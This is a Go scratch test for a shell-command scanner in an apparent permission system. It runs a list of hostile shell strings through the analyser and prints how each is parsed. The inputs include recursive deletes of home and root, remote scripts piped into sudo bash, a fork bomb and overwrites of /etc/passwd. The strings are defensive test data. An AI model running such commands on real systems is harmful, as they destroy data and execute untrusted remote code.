package bashscan_test

import (
	"fmt"
	"testing"

	"github.com/openprogram/lifecycle/shared/permission/bashscan"
)

func TestScratch(t *testing.T) {
	for _, src := range []string{
		`echo ok && rm -rf ~`,
		`a | b | c`,
		`(curl x | cat) | sudo bash`,
		`FOO=1 /bin/rm -rf "/tmp/a b" > out.txt 2>&1`,
		`echo $(rm -rf /) "$(whoami)"`,
		`bash -c 'echo hi; rm -rf /' `,
		`sudo -u root env X=1 nice -n 5 rm -rf /`,
		`$CMD -rf /`,
		`eval "ls"`,
		`bash <(curl -s http://x)`,
		`f() { f | f & }; f`,
		`r\m -rf /`,
		`find . -name x -exec rm {} \;`,
		"cat <<EOF\n$(rm -rf /)\nEOF",
		`x=$(ls); [[ $x -eq 1 ]]`,
		`{ echo a; echo b; } > /etc/passwd`,
		`cd /etc && echo x > passwd`,
		"git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"",
	} {
		p, err := bashscan.Analyze(src)
		if err != nil {
			fmt.Println(src, "ERR", err)
			continue
		}
		fmt.Printf("== %q static=%v ro=%v\n", src, p.Static(), p.ReadOnly())
		for _, c := range p.Commands {
			var forms []string
			for _, f := range c.Forms() {
				forms = append(forms, f.String())
			}
			fmt.Printf("  [%d] kind=%s text=%q static=%v opaque=%v(%s) via=%s parent=%d pipes=%v fn=%q bg=%v script=%v forms=%q\n", c.Index, c.Kind, c.Text(), c.Static(), c.Opaque, c.OpaqueReason, c.Via, c.Parent, c.Pipes, c.Function, c.Background, c.Script, forms)
		}
		for _, r := range p.PathRefs() {
			fmt.Printf("  path %s %q %s static=%v\n", r.Access, r.Path.Text, r.Source, r.Path.Static)
		}
	}
}
